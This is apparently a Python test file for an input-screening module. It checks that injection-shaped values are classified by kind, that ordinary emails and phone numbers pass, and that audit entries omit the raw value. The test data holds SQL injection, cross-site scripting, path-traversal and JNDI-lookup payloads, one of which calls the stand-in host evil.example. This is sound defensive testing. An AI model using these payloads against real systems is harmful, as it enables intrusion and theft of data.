"""Injection-shaped input is noticed and audited without its value; honest values pass."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from strongroom.access.screening import InputScreen, injection_kind
from strongroom.adapters.memory import MemoryUnitOfWorkFactory
from strongroom.audit.service import AuditLog
from strongroom.core.models import Actor, PrincipalKind
from strongroom.core.trail import AuditAction, Origin, Outcome


class Clock:
    def now(self) -> datetime:
        return datetime(2026, 3, 2, tzinfo=UTC)


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("' OR 1=1 --", "sql"),
        ("1' or '1'='1", "sql"),
        ("Robert'); DROP TABLE customers;--", "sql"),
        ("x UNION SELECT password FROM principals", "sql"),
        ("1; delete from customers", "sql"),
        ("abc' AND sleep(5)", "sql"),
        ("1 AND pg_sleep(10)", "sql"),
        ("admin'/*", "sql"),
        ("<script>alert(1)</script>", "script"),
        ("<img src=x onerror=alert(1)>", "script"),
        ("javascript:alert(document.cookie)", "script"),
        ("../../etc/passwd", "path_traversal"),
        ("%2e%2e%2fetc", "path_traversal"),
        ("${jndi:ldap://evil.example/a}", "template"),
        ("{{7*7}}", "template"),
    ],
)
def test_injection_shaped_values_are_named_by_their_kind(value: str, kind: str) -> None:
    assert injection_kind(value) == kind


@pytest.mark.parametrize(
    "value",
    [
        "3f2c9a8e-1b7d-4c2a-9e0f-5d6b7a8c9d0e",
        "o'brien@example.com",
        "anne-marie.d'arcy@example.co.uk",
        "jean-luc+orders@example.com",
        "+44 20 7946 0958",
        "(555) 010-4477 ext. 12",
        "andrea.orland@example.com",
        "union.select@example.com",
        "select-or-not",
        "100% cotton",
    ],
)
def test_honest_ids_emails_and_phone_numbers_are_not_suspicious(value: str) -> None:
    assert injection_kind(value) is None


def test_screening_audits_the_field_and_kind_but_never_the_value() -> None:
    factory = MemoryUnitOfWorkFactory()
    screen = InputScreen(factory, AuditLog(Clock()))
    origin = Origin("198.51.100.4", "sqlmap/1.8", "req-1")
    actor = Actor(PrincipalKind.STAFF, "eve", "support", "p-eve", origin=origin)
    assert screen.screen(actor=actor, field="customer_id", value="' OR 1=1 --") is True
    assert screen.screen(actor=actor, field="email", value="o'brien@example.com") is False
    [entry] = factory.store.audit_entries.values()
    draft = entry.draft
    assert (draft.action, draft.outcome, draft.actor) == (
        AuditAction.SUSPICIOUS_INPUT,
        Outcome.DENIED,
        "staff:eve",
    )
    assert draft.detail == {"field": "customer_id", "kind": "sql", "length": 11}
    assert draft.origin == origin
    assert "OR 1=1" not in repr(draft)
